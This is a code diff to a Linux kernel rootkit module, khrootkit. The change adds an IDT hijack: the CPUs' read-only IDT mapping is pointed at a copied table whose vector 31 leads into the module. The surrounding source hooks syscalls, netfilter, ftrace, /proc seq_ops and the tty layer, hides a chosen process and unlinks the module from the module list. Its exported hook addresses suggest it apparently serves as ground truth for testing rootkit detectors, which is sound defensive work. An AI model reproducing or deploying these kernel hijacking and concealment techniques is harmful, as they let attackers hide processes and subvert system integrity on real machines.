@@ -19,10 +19,14 @@
  *     a keylogger's place) with functions of its own that call the
  *     original ones; the loader passes both tables' addresses (seq_ops,
  *     ldisc_ops), checked as sct is;
- *  5. hides the process hide_pid: unlinks it from the task list (it stays
+ *  5. swaps the IDT the CPUs load: the CPU entry area's read-only alias
+ *     of idt_table (CPU_ENTRY_AREA_RO_IDT) is pointed at a copy of its
+ *     own, whose gate of vector 31 (reserved: the CPU raises it never)
+ *     leads to a function of the module; idt_table itself is unchanged;
+ *  6. hides the process hide_pid: unlinks it from the task list (it stays
  *     in its pid namespace's IDR, so /proc/PID and the /proc listing still
  *     have it, and in its parent's children);
- *  6. hides itself: unlinks itself from the module list (/proc/modules),
+ *  7. hides itself: unlinks itself from the module list (/proc/modules),
  *     while /sys/module/khrootkit and its parameters stay.
  *
  * Later, writing the write-only parameter vanish takes its kobject out
@@ -54,7 +58,8 @@
  * Read-only parameters give the tests their ground truth, in hex without
  * 0x: hook_addr (the syscall hook), kprobe_addr (the probed address),
  * nf_hook_addr (the netfilter hook function), ftrace_addr (the ftrace
- * callback), seq_show_addr and tty_hook_addr (the two operations hooks);
+ * callback), seq_show_addr and tty_hook_addr (the two operations hooks),
+ * idt_hook_addr (vector 31's new target);
  * sct, seq_ops and ldisc_ops are shown in hex too.
  */
 #define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
@@ -81,6 +86,9 @@
 #include <linux/vmalloc.h>
 #include <linux/workqueue.h>
 #include <net/net_namespace.h>
+#include <asm/desc.h>
+#include <asm/pgtable_areas.h>
+#include <asm/tlbflush.h>
 #include <asm/unistd.h>
 
 /* --- parameters --------------------------------------------------------- */
@@ -159,6 +167,10 @@ MODULE_PARM_DESC(ldisc_ops, "address of n_tty_ops, from /proc/kallsyms (required
 static unsigned long seq_show_addr;
 module_param_cb(seq_show_addr, &kh_out_ops, &seq_show_addr, 0444);
 MODULE_PARM_DESC(seq_show_addr, "out: the function now in tcp4_seq_ops.show");
+
+static unsigned long idt_hook_addr;
+module_param_cb(idt_hook_addr, &kh_out_ops, &idt_hook_addr, 0444);
+MODULE_PARM_DESC(idt_hook_addr, "out: vector 31's target in the IDT the CPUs load");
 
 static unsigned long tty_hook_addr;
 module_param_cb(tty_hook_addr, &kh_out_ops, &tty_hook_addr, 0444);
@@ -440,7 +452,59 @@ static void kh_ops_restore(void)
 	tty_hook_addr = 0;
 }
 
-/* --- 5. and 6. hiding -------------------------------------------------- */
+/* --- 5. the IDT the CPUs load ------------------------------------------ */
+
+#define KH_IDT_VECTOR 31
+
+static pte_t *kh_idt_pte;
+static pte_t kh_idt_old;
+
+/* vector 31's target; never called (the CPU raises no vector 31) */
+static void kh_idt_stub(void)
+{
+}
+
+static void kh_flush_one(void *unused)
+{
+	__flush_tlb_all();
+}
+
+static int kh_idt_install(void)
+{
+	unsigned long addr = (unsigned long)kh_idt_stub;
+	unsigned int level;
+	gate_desc *copy;
+
+	kh_idt_pte = lookup_address(CPU_ENTRY_AREA_RO_IDT, &level);
+	if (!kh_idt_pte || level != PG_LEVEL_4K || !pte_present(*kh_idt_pte)) {
+		pr_err("no 4K page maps the CPU entry area's IDT\n");
+		return -ENOENT;
+	}
+	copy = (gate_desc *)get_zeroed_page(GFP_KERNEL);
+	if (!copy)
+		return -ENOMEM;
+	memcpy(copy, CPU_ENTRY_AREA_RO_IDT_VADDR, PAGE_SIZE);
+	copy[KH_IDT_VECTOR].offset_low = (u16)addr;
+	copy[KH_IDT_VECTOR].offset_middle = (u16)(addr >> 16);
+	copy[KH_IDT_VECTOR].offset_high = (u32)(addr >> 32);
+	kh_idt_old = *kh_idt_pte;
+	/* the copy is never freed: the CPUs use it from now on */
+	set_pte_atomic(kh_idt_pte, pfn_pte(PHYS_PFN(__pa(copy)), PAGE_KERNEL_RO));
+	on_each_cpu(kh_flush_one, NULL, 1);
+	idt_hook_addr = addr;
+	pr_info("the CPUs' IDT is a copy at %lx, vector %d -> %lx\n",
+		(unsigned long)copy, KH_IDT_VECTOR, addr);
+	return 0;
+}
+
+static void kh_idt_restore(void)
+{
+	set_pte_atomic(kh_idt_pte, kh_idt_old);
+	on_each_cpu(kh_flush_one, NULL, 1);
+	idt_hook_addr = 0;
+}
+
+/* --- 6. and 7. hiding -------------------------------------------------- */
 
 /* runs with every other CPU stopped, interrupts off */
 static int kh_unlink(void *data)
@@ -508,11 +572,14 @@ static int __init khrootkit_init(void)
 	err = kh_ops_install();
 	if (err)
 		goto unregister_ftrace;
+	err = kh_idt_install();
+	if (err)
+		goto restore_ops;
 
 	err = stop_machine(kh_unlink, task, NULL);
 	if (err) {
 		pr_err("hide_pid=%d: cannot unlink it: %d\n", hide_pid, err);
-		goto restore_ops;
+		goto restore_idt;
 	}
 	synchronize_rcu();
 	stop_machine(kh_self_point, task, NULL);
@@ -522,6 +589,8 @@ static int __init khrootkit_init(void)
 		hide_pid, task->comm);
 	return 0;
 
+restore_idt:
+	kh_idt_restore();
 restore_ops:
 	kh_ops_restore();
 unregister_ftrace:
